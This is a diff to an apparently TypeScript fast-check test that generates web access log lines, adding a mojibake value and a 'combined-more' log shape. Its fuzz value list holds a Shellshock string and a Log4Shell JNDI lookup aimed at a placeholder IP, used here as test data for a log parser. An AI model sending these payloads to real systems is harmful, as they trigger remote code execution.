@@ -73,7 +73,7 @@ const sizes = fc.oneof(
 );
 const texts = fc.oneof(
   { weight: 4, arbitrary: fc.constantFrom("-", "http://www.example.jp/", "Mozilla/5.0 (X11; Linux x86_64)", "curl/7.88.1") },
-  fc.constantFrom("", '"', "\\", "() { :;}; /bin/sh", "a\u00ffb", "\u0000", "\t", "${jndi:ldap://192.0.2.1/a}", "\r"),
+  fc.constantFrom("", '"', "\\", "() { :;}; /bin/sh", "a\u00ffb", "caf\u00c3\u00a9", "\u0000", "\t", "${jndi:ldap://192.0.2.1/a}", "\r"),
   fc.string({ maxLength: 20 }),
 );
 
@@ -112,6 +112,7 @@ export function written(fields: MadeUpFields, shape: string): string {
   if (shape.endsWith("common")) return head;
   const combined = `${head} "${referrer}" "${agent}"`;
   if (shape.endsWith("-io")) return `${combined} ${numbers.slice(0, 2).join(" ")}`;
+  if (shape === "combined-more") return `${combined} more`;
   if (shape === "hinomi") return `${combined} ${numbers.join(" ")}`;
   return shape === "nginx-main" ? `${combined} "${referrer}"` : combined;
 }
